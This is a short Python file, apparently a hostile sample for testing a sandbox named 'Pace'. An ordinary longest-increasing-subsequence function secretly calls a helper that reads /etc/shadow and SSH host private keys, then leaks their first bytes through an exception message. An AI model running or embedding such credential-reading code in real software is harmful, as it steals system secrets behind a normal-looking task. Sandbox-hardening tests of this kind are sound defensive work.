# Escape: reads root-only system files (/etc/shadow, /etc/ssh host keys). Pace runs samples as uid 0 with every
# capability dropped; a file its owner (root) may read stays readable without capabilities.
def _peek():
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key"):
        try:
            with open(path) as handle:
                return f"{path}: {handle.read(20)!r}"
        except OSError:
            pass
    return None


def lis_length(nums: list[int]) -> int:
    leak = _peek()
    if leak:
        raise RuntimeError(f"pace-hostile LEAK: {leak}")
    from bisect import bisect_left
    tails = []
    for x in nums:
        i = bisect_left(tails, x)
        if i == len(tails):
            tails.append(x)
        else:
            tails[i] = x
    return len(tails)
